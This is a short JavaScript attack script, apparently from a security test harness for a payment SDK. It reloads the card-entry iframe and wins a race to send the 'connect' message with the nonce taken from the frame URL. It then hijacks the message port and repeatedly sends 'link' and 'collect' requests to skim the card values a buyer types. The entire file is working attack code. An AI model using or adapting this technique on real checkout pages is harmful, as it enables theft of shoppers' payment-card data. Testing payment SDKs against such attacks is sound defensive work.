// Attack, after mount: once the fields are connected, detach and re-attach the card's frame so it
// reloads, and connect to the new document before the SDK can: the nonce is in iframe.src, and
// the frame listens for `connect` from its first script on, before it says `ready`. Then ask it
// for the values on that port, the way the old protocol's `link` and `collect` did, again and
// again while the buyer types.
(function () {
  window.__attackReady = false;
  var Real = (window.__RealMessageChannel = window.__RealMessageChannel || window.MessageChannel);
  var timer = setInterval(function () {
    if (Number(document.body.dataset.ready || 0) < 1) return;
    clearInterval(timer);
    var iframe = document.querySelector('iframe.payjp-frame');
    var nonce = window.__frameParams(iframe).get('nonce');
    var origin = new URL(iframe.src).origin;
    var parent = iframe.parentNode;
    parent.removeChild(iframe);
    parent.appendChild(iframe);
    var won = null;
    var tries = setInterval(function () {
      if (won) return clearInterval(tries);
      var channel = window.__listeningPort('reattached field', function (data, port) {
        if (won) return;
        won = port;
        var mine = new Real();
        mine.port1.onmessage = function (m) { window.__skim('reattached, my controller port', m.data); };
        port.postMessage({ t: 'link' }, [mine.port2]);
        var id = 1;
        setInterval(function () {
          port.postMessage({ t: 'collect', id: id++ });
          mine.port1.postMessage({ t: 'collect', id: id++ });
        }, 200);
        window.__attackReady = true;
      });
      try {
        iframe.contentWindow.postMessage({ payjp: 'connect', nonce: nonce, options: {} }, origin, [channel.port2]);
      } catch (e) {}
    }, 10);
  }, 100);
})();
